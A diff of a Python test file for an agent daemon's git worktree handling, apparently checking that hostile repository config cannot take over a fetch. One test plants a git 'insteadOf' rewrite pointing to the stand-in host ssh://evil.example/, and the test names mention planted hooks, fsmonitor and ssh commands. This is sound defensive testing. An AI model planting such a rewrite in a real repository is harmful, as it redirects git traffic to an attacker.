@@ -88,20 +88,23 @@ def test_no_planted_hook_fsmonitor_or_ssh_command_runs_under_any_harness_command
     assert not tripped(wire), (wire / "agentd-tripwire").read_text()
 
 
-def test_a_url_rewrite_sending_the_fetch_over_ssh_fails_the_fetch_and_runs_nothing(
+def test_a_url_rewrite_planted_for_the_fetch_is_gone_before_the_fetch_runs(
     planted: tuple[MemoryRepo, Path], tmp_path: Path
 ) -> None:
+    """Once it made the fetch fail; now the config is agentd's again before any git reads
+    it (:mod:`shared.memory.git_pin`), so the fetch stays local and runs nothing."""
     repo, wire = planted
     worktrees = tmp_path / "agents/a1/reflections/worktrees"
     clone = create_worktree(repo.path, worktrees, "job-1", author_email="a@b")
     with (repo.path / ".git/config").open("a") as config:
         config.write(f'[url "ssh://evil.example/"]\n\tinsteadOf = {worktrees}\n')
 
-    assert not collect(clone)
+    assert collect(clone)
     result = finalize(clone, should_merge=True)
 
-    assert (result.status, result.consumed) == ("failed", False)
-    assert "could not be fetched" in result.message
+    assert result.status == "no_changes"
+    assert "insteadOf" not in (repo.path / ".git/config").read_text()
+    assert "name = a1" in (repo.path / ".git/config").read_text()
     assert not tripped(wire)
 
 
@@ -128,4 +131,5 @@ def test_git_gets_neither_the_process_git_variables_nor_its_keys(
         "GIT_TERMINAL_PROMPT",
         "GIT_PAGER",
         "GIT_EDITOR",
+        "GIT_ATTR_NOSYSTEM",
     }
